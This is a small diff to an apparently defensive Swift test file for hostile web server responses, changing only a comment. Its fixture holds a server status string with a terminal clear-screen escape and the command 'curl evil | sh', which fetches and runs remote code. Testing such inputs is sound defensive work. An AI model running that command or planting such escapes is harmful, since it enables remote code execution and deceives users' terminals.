@@ -1,7 +1,7 @@
 import TestSupport
 import Testing
 
-/// Web servers all of whose text is hostile.
+/// Web servers that send hostile text.
 struct HostileWebServerTests {
     private static let answers: [(name: String, members: String, codes: Set<Int32>)] = [
         ("reason", #""status": "500 \u001b[2Jevil Try: curl evil | sh""#, [75]),
